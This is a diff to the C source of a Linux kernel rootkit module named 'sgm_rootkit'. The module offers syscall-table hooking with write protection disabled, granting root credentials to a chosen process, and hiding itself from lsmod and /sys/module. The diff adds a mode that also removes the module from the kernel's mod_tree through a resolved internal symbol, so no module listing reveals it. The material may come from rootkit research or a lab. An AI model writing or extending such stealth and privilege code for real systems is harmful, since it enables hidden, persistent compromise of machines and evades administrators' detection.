@@ -7,6 +7,9 @@
  *
  *   hide_module=1         list_del_init(&THIS_MODULE->list) (gone from /proc/modules,
  *                         lsmod) and kobject_del of its kobject (gone from /sys/module).
+ *   hide_module=2         the same, and half a second later (once do_init_module is
+ *                         done with the tree) out of mod_tree as well: no structure
+ *                         that lists modules knows it; its memory stays.
  *   hook_syscall=NR       sys_call_table[NR] = sgm_table_handler (CR0.WP cleared around
  *                         the write: the table is in .rodata).
  *   patch_x64_sys_call=NR rewrite the rel32 of the direct call (or tail jump) inside
@@ -49,6 +52,7 @@
 #include <linux/pid.h>
 #include <linux/pid_namespace.h>
 #include <linux/idr.h>
+#include <linux/workqueue.h>
 #include <linux/cred.h>
 #include <linux/capability.h>
 #include <linux/rculist.h>
@@ -638,6 +642,17 @@ static void sgm_unroot_task(void)
 	sgm_ncreds = 0;
 }
 
+/* ---- hide_module=2: out of mod_tree, once init is over ---- */
+
+static void (*sgm_tree_remove)(struct module *);
+static struct delayed_work sgm_hide_work;
+
+static void sgm_leave_mod_tree(struct work_struct *work)
+{
+	sgm_tree_remove(THIS_MODULE);	/* the core region: init's is gone by now */
+	pr_info("sgm_rootkit: hidden from mod_tree\n");
+}
+
 /* ---- load and unload ---- */
 
 static void sgm_undo(void)
@@ -689,6 +704,16 @@ static int __init sgm_init(void)
 	if (root_pid > 0 && (err = sgm_root_task()))
 		goto fail;
 	if (hide_module) {
+		if (hide_module > 1) {
+			sgm_tree_remove = (void (*)(struct module *))sgm_sym("mod_tree_remove");
+			if (!sgm_tree_remove) {
+				err = -ENOENT;
+				goto fail;
+			}
+			/* After init: do_init_module() still takes the init region out. */
+			INIT_DELAYED_WORK(&sgm_hide_work, sgm_leave_mod_tree);
+			schedule_delayed_work(&sgm_hide_work, HZ / 2);
+		}
 		list_del_init(&THIS_MODULE->list);
 		kobject_del(&THIS_MODULE->mkobj.kobj);
 		pr_info("sgm_rootkit: hidden from the module list and /sys/module\n");
